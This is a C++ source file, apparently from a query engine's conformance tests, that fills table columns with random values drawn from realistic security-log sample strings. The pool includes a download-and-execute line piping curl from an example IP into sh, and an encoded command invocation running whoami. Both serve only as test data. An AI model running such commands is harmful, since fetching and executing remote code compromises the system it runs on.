#include "generated_rows.h"

#include <array>
#include <string>
#include <string_view>

namespace qd::conformance {

namespace {

using columns::ColumnBuilder;
using columns::DataType;

constexpr std::string_view kTexts[] = {
    "",
    "0",
    "50126",
    "Success",
    "Failure",
    "alice@contoso.com",
    "bob@fabrikam.com",
    "Bob",
    "CONTOSO\\svc-backup$",
    "host01.contoso.com",
    "10.1.2.3",
    "203.0.113.77",
    "2001:db8::17",
    "198.51.100.4:443",
    "https://login.contoso.com/oauth2/token?client=1&x=%20y#f",
    "C:\\Windows\\System32\\cmd.exe",
    "\"C:\\Program Files\\a b\\tool.exe\" -enc SQBFAFgA /c whoami",
    "/usr/bin/curl -k http://203.0.113.77/x.sh | sh",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
    "{\"countryOrRegion\":\"US\",\"geoCoordinates\":{\"latitude\":1.5,\"longitude\":-2}}",
    "[{\"name\":\"a\",\"value\":\"1\",\"newValue\":\"[\\\"x\\\"]\"},{\"name\":\"b\"}]",
    "<Event><Data Name=\"CommandLine\">x</Data><Data Name=\"User\">y</Data></Event>",
    "key1=value1;key2=value 2;key3=3",
    "8f14e45f-ceea-467f-9a1c-c5d1a1e7b0f2",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "US",
    "DE",
    "2026-01-05T10:11:12.345Z",
    "12.75",
    "true",
    "na\xc3\xafve caf\xc3\xa9",
};

template <std::size_t N>
std::string_view pick(const std::string_view (&pool)[N], Random& random) {
    return pool[random.below(N)];
}

Value make_dynamic(Random& random, int depth) {
    constexpr std::string_view kKeys[] = {
        "name", "value",    "displayName", "id",         "type",      "countryOrRegion",
        "city", "newValue", "roles",       "properties", "errorCode", "userPrincipalName"};
    switch (random.below(depth > 2 ? 5 : 8)) {
        case 0:
            return {};
        case 1:
            return Value(static_cast<std::int64_t>(random.below(2000)) - 500);
        case 2:
            return Value(random.unit() * 100);
        case 3:
            return Value(random.below(2) == 0);
        case 4:
            return Value(std::string(pick(kTexts, random)));
        case 5: {
            Array items;
            for (std::uint64_t n = random.below(4); n > 0; --n) {
                items.push_back(make_dynamic(random, depth + 1));
            }
            return Value(std::move(items));
        }
        default: {
            Object object;
            for (std::uint64_t n = 1 + random.below(5); n > 0; --n) {
                object.set(std::string(pick(kKeys, random)), make_dynamic(random, depth + 1));
            }
            return Value(std::move(object));
        }
    }
}

void append_value(ColumnBuilder& to, Timestamp now, Random& random) {
    const std::int64_t number =
        static_cast<std::int64_t>(random.below(random.below(3) == 0 ? 5 : 5000)) - 2;
    switch (to.type()) {
        case DataType::Bool:
            return to.append_bool(random.below(2) == 0);
        case DataType::Int:
        case DataType::Long:
            return to.append_int(number);
        case DataType::Real:
            return to.append_real(random.unit() * static_cast<double>(number));
        case DataType::DateTime:
            return to.append_int(now.ticks - static_cast<std::int64_t>(random.below(14 * 86'400)) *
                                                 Ticks::kSecond);
        case DataType::TimeSpan:
            return to.append_int(number * Ticks::kSecond);
        case DataType::String:
            return to.append_bytes(pick(kTexts, random));
        case DataType::Dynamic:
            return to.append_value(make_dynamic(random, 0));
        default:
            return to.append_null();
    }
}

}  // namespace

columns::Table generate_rows(const columns::Schema& schema, std::uint32_t rows, Timestamp now,
                             Random& random) {
    columns::Table out;
    out.schema = schema;
    columns::Chunk chunk;
    chunk.rows = rows;
    for (const columns::Field& field : schema.fields) {
        ColumnBuilder builder(field.type);
        for (std::uint32_t row = 0; row < rows; ++row) {
            if (random.below(12) == 0) {
                builder.append_null();
            } else {
                append_value(builder, now, random);
            }
        }
        chunk.columns.push_back(builder.finish());
    }
    out.chunks.push_back(std::move(chunk));
    return out;
}

}  // namespace qd::conformance
